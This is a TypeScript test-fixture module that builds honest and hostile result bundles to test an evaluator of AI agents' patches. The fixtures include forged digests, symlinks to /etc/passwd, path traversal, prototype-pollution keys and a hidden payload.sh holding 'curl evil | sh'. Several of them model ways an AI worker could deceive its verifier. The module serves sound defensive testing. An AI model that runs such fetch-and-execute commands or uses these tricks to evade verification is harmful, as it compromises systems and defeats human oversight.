/**
 * Hostile (and honest) result bundles for the bundle evaluator, generated at
 * test time: symlinks, hard links and FIFOs cannot live in git, and digests
 * are computed from the bytes actually written so every worker manifest is
 * self-consistent unless the fixture forges something on purpose.
 *
 * @module
 */
import { canonicalDigest } from "../../../adapters/canonical_json/mod.ts";
import { sha256Hex } from "../../../adapters/digest/mod.ts";
import type {
  EvaluatorPlanV01,
  EvaluatorPlanV02,
  Recommendation,
  ResultManifest,
  WorkUnit,
} from "../../../kernel/bundle/types.ts";

/** The fixture WorkUnit: README.md only, never .github/** or SECURITY.md (after the seed). */
export function fixtureWorkUnit(): WorkUnit {
  return {
    schema_version: "0.1",
    id: "wu-readme-smoke",
    version: "1",
    kind: "documentation",
    objective: "Add the smoke marker line to README.md",
    constraints: { allowed_paths: ["README.md"], forbidden_paths: [".github/**", "SECURITY.md"] },
    permissions: { network: "none", filesystem_write: ["README.md"] },
    validators: [
      { id: "result-manifest-schema", type: "schema", required: true },
      { id: "independent-review", type: "review", required: true },
      { id: "lint", type: "static", required: false },
    ],
    budget: { wall_seconds: 600, tokens: 100_000 },
    failure_semantics: { retryable: true, max_attempts: 2, on_failure: "escalate" },
    provenance: { created_by: "vouch-tests" },
  };
}

const POLICY = {
  require_plan_outside_candidate_root: true,
  require_output_outside_candidate_root: true,
  require_verifier_distinct_from_worker: true,
} as const;

/** The v0.2 unified_diff plan bound to a WorkUnit. */
export function fixturePlanV02(workUnit: WorkUnit): EvaluatorPlanV02 {
  return {
    schema_version: "0.2",
    id: "plan-readme-smoke",
    binding: {
      work_unit_id: workUnit.id,
      work_unit_version: workUnit.version,
      work_unit_digest: canonicalDigest(workUnit),
      source_revision: "rev-1",
    },
    visibility: "hidden",
    execution_mode: "metadata_only",
    verifier: {
      id: "vouch-verifier",
      type: "system",
      adapter: "deterministic-patch-verifier",
      adapter_version: "0.1.0",
    },
    required_validator_ids: ["result-manifest-schema", "independent-review"],
    candidate_artifact_id: "candidate-patch",
    backend: {
      type: "unified_diff",
      max_candidate_bytes: 64 * 1024,
      max_log_bytes: 4096,
      required_added_text: ["vouch smoke marker: ok"],
      require_nonempty_patch: true,
      verify_log_digests: true,
    },
    policy: POLICY,
  };
}

/** The v0.1 exact-JSON plan bound to a WorkUnit. */
export function fixturePlanV01(workUnit: WorkUnit): EvaluatorPlanV01 {
  return {
    schema_version: "0.1",
    id: "plan-answer",
    binding: {
      work_unit_id: workUnit.id,
      work_unit_version: workUnit.version,
      work_unit_digest: canonicalDigest(workUnit),
    },
    visibility: "hidden",
    execution_mode: "metadata_only",
    verifier: {
      id: "vouch-verifier",
      type: "system",
      adapter: "deterministic-json-verifier",
      adapter_version: "0.1.0",
    },
    required_validator_ids: ["result-manifest-schema", "independent-review"],
    candidate_artifact_id: "answer",
    allowed_files: ["answer.json", "stdout.txt", "stderr.txt"],
    max_candidate_bytes: 4096,
    required_json: { answer: 42, units: ["m", "s"] },
    policy: POLICY,
  };
}

const README_HUNK = [
  "diff --git a/README.md b/README.md",
  "index 3b18e51..a9c1f5e 100644",
  "--- a/README.md",
  "+++ b/README.md",
  "@@ -1,2 +1,3 @@",
  " # Project",
  " Intro text.",
];

/** The honest, in-scope patch carrying the required line. */
export const GOOD_PATCH = [...README_HUNK, "+vouch smoke marker: ok", ""].join("\n");
/** In scope, but the wrong line. */
export const WRONG_SEMANTIC_PATCH = [...README_HUNK, "+vouch smoke marker: maybe", ""].join("\n");
/** The right line, plus an edit of SECURITY.md. */
export const FORBIDDEN_PATH_PATCH = [
  ...README_HUNK,
  "+vouch smoke marker: ok",
  "diff --git a/SECURITY.md b/SECURITY.md",
  "index 1d2e3f4..5a6b7c8 100644",
  "--- a/SECURITY.md",
  "+++ b/SECURITY.md",
  "@@ -1 +1 @@",
  "-Report issues to security@example.com",
  "+Report issues to nobody",
  "",
].join("\n");
/** README.md "changed" as a binary file without its data: nothing to apply, nothing to check. */
export const BINARY_WITHOUT_DATA_PATCH = [
  "diff --git a/README.md b/README.md",
  "index 3b18e51..a9c1f5e 100644",
  "Binary files a/README.md and b/README.md differ",
  "",
].join("\n");
/** A traversal in the diff header names. */
export const TRAVERSAL_PATCH = [
  "diff --git a/../outside.txt b/../outside.txt",
  "new file mode 100644",
  "index 0000000..a9c1f5e",
  "--- /dev/null",
  "+++ b/../outside.txt",
  "@@ -0,0 +1 @@",
  "+vouch smoke marker: ok",
  "",
].join("\n");

/** What a fixture may change about the honest bundle. */
export interface BundleFixture {
  /** Directory-safe name. */
  readonly name: string;
  /** What the attack (or honest case) is. */
  readonly description: string;
  /** The recommendation the evaluator must give. */
  readonly recommendation: Recommendation;
  /** Exactly the reason codes the evaluator must give. */
  readonly reasons: readonly string[];
  /** Which plan version. @default "0.2" */
  readonly planVersion?: "0.1" | "0.2";
  /** Files written into the bundle (name -> content); the candidate is declared first. */
  readonly files?: Record<string, string | Uint8Array>;
  /** Edits the honest manifest (after digests are computed). */
  readonly manifest?: (m: ResultManifest) => void;
  /** Replaces the manifest text entirely. */
  readonly manifestText?: (json: string) => string | Uint8Array;
  /** Edits the WorkUnit the verifier holds (after the plan is bound to the original). */
  readonly workUnit?: (w: WorkUnit) => void;
  /** Edits the plan. */
  readonly plan?: (p: EvaluatorPlanV01 | EvaluatorPlanV02) => void;
  /**
   * What `evaluateBundle` gives instead, when it differs: a bundle with a
   * link leading out of it is never granted to the child (the permission layer
   * would follow the link), so it is not judged at all.
   */
  readonly isolated?: { readonly recommendation: string; readonly reasons: readonly string[] };
  /** Filesystem tricks after writing: symlinks, hard links, FIFOs, extra files. */
  readonly after?: (bundleDir: string, outsideDir: string) => Promise<void>;
}

/** Paths of a materialised fixture. */
export interface MaterializedFixture {
  bundleDir: string;
  workUnitPath: string;
  planPath: string;
}

/** `vouch evaluate`'s arguments for a materialised fixture (its three inputs). */
export function evaluateArgs(p: MaterializedFixture): string[] {
  return ["evaluate", "--bundle", p.bundleDir, "--work-unit", p.workUnitPath, "--plan", p.planPath];
}

function bytesOf(content: string | Uint8Array): Uint8Array {
  return typeof content === "string" ? new TextEncoder().encode(content) : content;
}

/** Writes a fixture under `baseDir` (bundle/, verifier/, outside/). */
export async function materializeFixture(
  fixture: BundleFixture,
  baseDir: string,
): Promise<MaterializedFixture> {
  const bundleDir = `${baseDir}/bundle`;
  const verifierDir = `${baseDir}/verifier`;
  const outsideDir = `${baseDir}/outside`;
  for (const d of [bundleDir, verifierDir, outsideDir]) await Deno.mkdir(d, { recursive: true });

  const originalWorkUnit = fixtureWorkUnit();
  const v01 = fixture.planVersion === "0.1";
  const plan = v01 ? fixturePlanV01(originalWorkUnit) : fixturePlanV02(originalWorkUnit);
  fixture.plan?.(plan);
  const workUnit = fixtureWorkUnit();
  fixture.workUnit?.(workUnit);

  const files: Record<string, string | Uint8Array> = fixture.files ?? (v01
    ? {
      "answer.json": '{"units":["m","s"],"answer":42}',
      "stdout.txt": "done\n",
      "stderr.txt": "",
    }
    : { "changes.patch": GOOD_PATCH, "stdout.txt": "applied\n", "stderr.txt": "" });
  for (const [name, content] of Object.entries(files)) {
    const path = `${bundleDir}/${name}`;
    await Deno.mkdir(path.slice(0, path.lastIndexOf("/")), { recursive: true });
    await Deno.writeFile(path, bytesOf(content));
  }
  const digestOf = (name: string): string => sha256Hex(bytesOf(files[name] ?? ""));
  const candidateName = v01 ? "answer.json" : "changes.patch";
  const manifest: ResultManifest = {
    schema_version: "0.1",
    id: `rm-${fixture.name}`,
    work_unit_id: originalWorkUnit.id,
    work_unit_version: originalWorkUnit.version,
    attempt: 1,
    worker: { id: "worker-1", type: "agent", adapter: "codex-cli", model: "some-model" },
    status: "succeeded",
    started_at: "2026-11-29T00:00:00Z",
    finished_at: "2026-11-29T00:01:00Z",
    produced_artifacts: [{
      id: v01 ? "answer" : "candidate-patch",
      type: v01 ? "json" : "patch",
      locator: candidateName,
      digest: digestOf(candidateName),
    }],
    logs: [
      { type: "stdout", locator: "stdout.txt", digest: digestOf("stdout.txt") },
      { type: "stderr", locator: "stderr.txt", digest: digestOf("stderr.txt") },
    ],
    metrics: { tokens: 1234 },
    resources: { wall_seconds: 60 },
    self_report: { summary: "All done, trust me.", claims: ["tests pass"] },
    provenance: { work_unit_digest: canonicalDigest(originalWorkUnit), source_revision: "rev-1" },
    verification_request: {
      expected_validator_ids: ["result-manifest-schema", "independent-review"],
    },
    changed_paths: ["README.md"],
    policy_violation_count: 0,
  };
  fixture.manifest?.(manifest);
  const json = JSON.stringify(manifest, null, 2);
  const text = fixture.manifestText ? fixture.manifestText(json) : json;
  await Deno.writeFile(`${bundleDir}/result-manifest.json`, bytesOf(text));

  const workUnitPath = `${verifierDir}/work-unit.json`;
  const planPath = `${verifierDir}/plan.json`;
  await Deno.writeTextFile(workUnitPath, JSON.stringify(workUnit, null, 2));
  await Deno.writeTextFile(planPath, JSON.stringify(plan, null, 2));
  await fixture.after?.(bundleDir, outsideDir);
  return { bundleDir, workUnitPath, planPath };
}

const sha = (s: string) => sha256Hex(s);

/** Every fixture, each with its expected recommendation and exact reason codes. */
export const BUNDLE_FIXTURES: readonly BundleFixture[] = [
  {
    name: "good",
    description: "honest digests, README.md only, the required added line",
    recommendation: "accept_candidate",
    reasons: [],
  },
  {
    name: "good-json-v01",
    description: "v0.1 exact-JSON: candidate equals required_json (key order differs)",
    planVersion: "0.1",
    recommendation: "accept_candidate",
    reasons: [],
  },
  {
    name: "wrong-semantic",
    description: "honest digest, allowed scope, wrong added line",
    files: { "changes.patch": WRONG_SEMANTIC_PATCH, "stdout.txt": "ok\n", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["required_added_line_missing"],
  },
  {
    name: "wrong-json-v01",
    description: "v0.1 exact-JSON: candidate JSON differs from required_json",
    planVersion: "0.1",
    files: { "answer.json": '{"answer":41,"units":["m","s"]}', "stdout.txt": "", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["json_mismatch"],
  },
  {
    name: "duplicate-key-json-v01",
    description: "v0.1 candidate JSON with a duplicate key (two readers would disagree)",
    planVersion: "0.1",
    files: {
      "answer.json": '{"answer":41,"answer":42,"units":["m","s"]}',
      "stdout.txt": "",
      "stderr.txt": "",
    },
    recommendation: "reject_candidate",
    reasons: ["candidate_json_invalid"],
  },
  {
    name: "forbidden-path",
    description: "required line present but SECURITY.md touched; changed_paths lies",
    files: { "changes.patch": FORBIDDEN_PATH_PATCH, "stdout.txt": "", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["scope_violation"],
  },
  {
    name: "traversal-in-patch",
    description: "the patch creates ../outside.txt",
    files: { "changes.patch": TRAVERSAL_PATCH, "stdout.txt": "", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["scope_violation"],
  },
  {
    name: "binary-without-data",
    description: "README.md changed as a binary file with no data (git diff without --binary)",
    files: { "changes.patch": BINARY_WITHOUT_DATA_PATCH, "stdout.txt": "", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["patch_incomplete", "required_added_line_missing"],
  },
  {
    name: "forged-digest",
    description: "good bytes, but the declared patch digest is of other bytes",
    manifest: (m) => {
      m.produced_artifacts[0]!.digest = sha("something else");
    },
    recommendation: "reject_candidate",
    reasons: ["digest_mismatch"],
  },
  {
    name: "forged-log-digest",
    description: "the stdout log digest does not match its bytes",
    manifest: (m) => {
      m.logs[0]!.digest = sha("PASS\n");
    },
    recommendation: "reject_candidate",
    reasons: ["digest_mismatch"],
  },
  {
    name: "binding-drift-digest",
    description: "correct candidate, but bound to another WorkUnit digest",
    manifest: (m) => {
      m.provenance.work_unit_digest = sha("another work unit");
    },
    recommendation: "reject_candidate",
    reasons: ["binding_drift"],
  },
  {
    name: "binding-drift-version",
    description: "the verifier's WorkUnit moved to version 2; manifest and plan still say 1",
    workUnit: (w) => {
      w.version = "2";
    },
    recommendation: "escalate",
    reasons: ["plan_binding_mismatch", "binding_drift"],
  },
  {
    name: "binding-drift-revision",
    description: "manifest built from another source revision than the plan binds",
    manifest: (m) => {
      m.provenance.source_revision = "rev-0";
    },
    recommendation: "reject_candidate",
    reasons: ["binding_drift"],
  },
  {
    name: "symlinked-artifact",
    description: "stdout.txt is a symlink to /etc/passwd",
    after: async (bundle) => {
      await Deno.remove(`${bundle}/stdout.txt`);
      await Deno.symlink("/etc/passwd", `${bundle}/stdout.txt`);
    },
    recommendation: "reject_candidate",
    reasons: ["file_symlink"],
    isolated: { recommendation: "insufficient_evidence", reasons: ["evaluator_error"] },
  },
  {
    name: "symlinked-log-to-log",
    description: "stderr.txt is a symlink to stdout.txt inside the bundle",
    after: async (bundle) => {
      await Deno.remove(`${bundle}/stderr.txt`);
      await Deno.symlink("stdout.txt", `${bundle}/stderr.txt`);
    },
    manifest: (m) => {
      m.logs[1]!.digest = m.logs[0]!.digest;
    },
    recommendation: "reject_candidate",
    reasons: ["file_symlink"],
  },
  {
    name: "symlinked-parent-directory",
    description: "logs/ is a symlink to a directory outside the bundle",
    files: { "changes.patch": GOOD_PATCH, "stderr.txt": "" },
    manifest: (m) => {
      m.logs[0]!.locator = "logs/stdout.txt";
      m.logs[0]!.digest = sha("outside\n");
    },
    after: async (bundle, outside) => {
      await Deno.writeTextFile(`${outside}/stdout.txt`, "outside\n");
      await Deno.symlink(outside, `${bundle}/logs`);
    },
    recommendation: "reject_candidate",
    reasons: ["file_symlink", "undeclared_file"],
    isolated: { recommendation: "insufficient_evidence", reasons: ["evaluator_error"] },
  },
  {
    name: "hardlinked-artifact",
    description: "changes.patch has a second hard link outside the bundle",
    after: async (bundle, outside) => {
      await Deno.link(`${bundle}/changes.patch`, `${outside}/changes.patch`);
    },
    recommendation: "reject_candidate",
    reasons: ["file_hardlinked"],
    isolated: { recommendation: "insufficient_evidence", reasons: ["evaluator_error"] },
  },
  {
    name: "fifo-artifact",
    description: "stderr.txt is a FIFO (a reader would block forever)",
    after: async (bundle) => {
      await Deno.remove(`${bundle}/stderr.txt`);
      const made = await new Deno.Command("mkfifo", { args: [`${bundle}/stderr.txt`] }).output();
      if (!made.success) throw new Error("Cannot build fixture: mkfifo failed");
    },
    recommendation: "reject_candidate",
    reasons: ["file_not_regular"],
  },
  {
    name: "oversize-log",
    description: "stdout.txt is larger than the verifier-owned max_log_bytes (honest digest)",
    files: { "changes.patch": GOOD_PATCH, "stdout.txt": "x".repeat(5000), "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["file_oversize"],
  },
  {
    name: "oversize-log-lying-cap",
    description: "the plan's cap is verifier-owned: a manifest cannot raise it",
    files: { "changes.patch": GOOD_PATCH, "stdout.txt": "y".repeat(4097), "stderr.txt": "" },
    manifest: (m) => {
      (m as unknown as Record<string, unknown>).max_log_bytes = 1_000_000;
    },
    recommendation: "reject_candidate",
    reasons: ["manifest_schema_invalid"],
  },
  {
    name: "duplicate-json-keys",
    description: "result-manifest.json repeats the status key",
    manifestText: (json) =>
      json.replace('"status": "succeeded"', '"status": "failed", "status": "succeeded"'),
    recommendation: "reject_candidate",
    reasons: ["json_duplicate_key"],
  },
  {
    name: "proto-key",
    description: "result-manifest.json carries a __proto__ key",
    manifestText: (json) =>
      json.replace('"attempt": 1', '"__proto__": {"status": "succeeded"}, "attempt": 1'),
    recommendation: "reject_candidate",
    reasons: ["json_forbidden_key"],
  },
  {
    name: "manifest-bom",
    description: "result-manifest.json starts with a UTF-8 byte order mark",
    manifestText: (json) => "\ufeff" + json,
    recommendation: "reject_candidate",
    reasons: ["manifest_json_invalid"],
  },
  {
    name: "manifest-unsafe-number",
    description: "attempt is above 2^53",
    manifestText: (json) => json.replace('"attempt": 1', '"attempt": 9007199254740993'),
    recommendation: "reject_candidate",
    reasons: ["manifest_json_invalid"],
  },
  {
    name: "manifest-missing",
    description: "the bundle has no result-manifest.json",
    after: async (bundle) => {
      await Deno.remove(`${bundle}/result-manifest.json`);
    },
    recommendation: "reject_candidate",
    reasons: ["manifest_missing"],
  },
  {
    name: "manifest-symlink",
    description: "result-manifest.json is a symlink to a manifest outside the bundle",
    after: async (bundle, outside) => {
      await Deno.rename(`${bundle}/result-manifest.json`, `${outside}/m.json`);
      await Deno.symlink(`${outside}/m.json`, `${bundle}/result-manifest.json`);
    },
    recommendation: "reject_candidate",
    reasons: ["file_symlink"],
    isolated: { recommendation: "insufficient_evidence", reasons: ["evaluator_error"] },
  },
  {
    name: "missing-file",
    description: "the stderr log is declared but absent",
    after: async (bundle) => {
      await Deno.remove(`${bundle}/stderr.txt`);
    },
    recommendation: "reject_candidate",
    reasons: ["file_missing"],
  },
  {
    name: "extra-undeclared-file",
    description: "the bundle carries a file the manifest does not declare",
    after: async (bundle) => {
      await Deno.mkdir(`${bundle}/.hidden`);
      await Deno.writeTextFile(`${bundle}/.hidden/payload.sh`, "curl evil | sh\n");
    },
    recommendation: "reject_candidate",
    reasons: ["undeclared_file"],
  },
  {
    name: "traversal-locator",
    description: "the candidate locator climbs out of the candidate root",
    manifest: (m) => {
      m.produced_artifacts[0]!.locator = "../outside/changes.patch";
    },
    after: async (bundle, outside) => {
      await Deno.rename(`${bundle}/changes.patch`, `${outside}/changes.patch`);
    },
    recommendation: "reject_candidate",
    reasons: ["locator_not_confined"],
  },
  {
    name: "absolute-locator",
    description: "a log locator is absolute",
    manifest: (m) => {
      m.logs[0]!.locator = "/etc/passwd";
    },
    recommendation: "reject_candidate",
    reasons: ["locator_not_confined", "undeclared_file"],
  },
  {
    name: "locator-not-allowed-v01",
    description: "v0.1: a declared file outside the plan's allowed_files",
    planVersion: "0.1",
    files: {
      "answer.json": '{"units":["m","s"],"answer":42}',
      "stdout.txt": "",
      "stderr.txt": "",
      "notes.md": "hi",
    },
    manifest: (m) => {
      m.produced_artifacts.push({
        id: "notes",
        type: "file",
        locator: "notes.md",
        digest: sha("hi"),
      });
    },
    recommendation: "reject_candidate",
    reasons: ["locator_not_allowed"],
  },
  {
    name: "malformed-digest",
    description: "a declared digest is upper-case and short",
    manifest: (m) => {
      m.produced_artifacts[0]!.digest = "sha256:ABCDEF";
    },
    recommendation: "reject_candidate",
    reasons: ["digest_malformed"],
  },
  {
    name: "worker-failed",
    description: "a perfect candidate, but the worker itself reports failure",
    manifest: (m) => {
      m.status = "failed";
    },
    recommendation: "reject_candidate",
    reasons: ["worker_status_not_succeeded"],
  },
  {
    name: "verifier-is-worker",
    description: "the worker id equals the verifier id",
    manifest: (m) => {
      m.worker.id = "vouch-verifier";
    },
    recommendation: "escalate",
    reasons: ["verifier_not_independent"],
  },
  {
    name: "requested-validators-incomplete",
    description: "the manifest does not ask for independent-review",
    manifest: (m) => {
      m.verification_request.expected_validator_ids = ["result-manifest-schema"];
    },
    recommendation: "reject_candidate",
    reasons: ["requested_validators_incomplete"],
  },
  {
    name: "validator-set-mismatch",
    description: "the WorkUnit requires a validator no bundle backend implements",
    workUnit: (w) => {
      w.validators.push({ id: "unit-tests", type: "test", required: true });
    },
    recommendation: "escalate",
    reasons: ["validator_set_mismatch", "plan_binding_mismatch", "binding_drift"],
  },
  {
    name: "unparsable-patch",
    description: "the candidate patch has a hunk whose counts lie",
    files: {
      "changes.patch": GOOD_PATCH.replace("@@ -1,2 +1,3 @@", "@@ -1,2 +1,9 @@"),
      "stdout.txt": "",
      "stderr.txt": "",
    },
    recommendation: "reject_candidate",
    reasons: ["patch_unparsable"],
  },
  {
    name: "empty-patch",
    description: "an empty candidate patch",
    files: { "changes.patch": "", "stdout.txt": "", "stderr.txt": "" },
    recommendation: "reject_candidate",
    reasons: ["patch_empty"],
  },
];
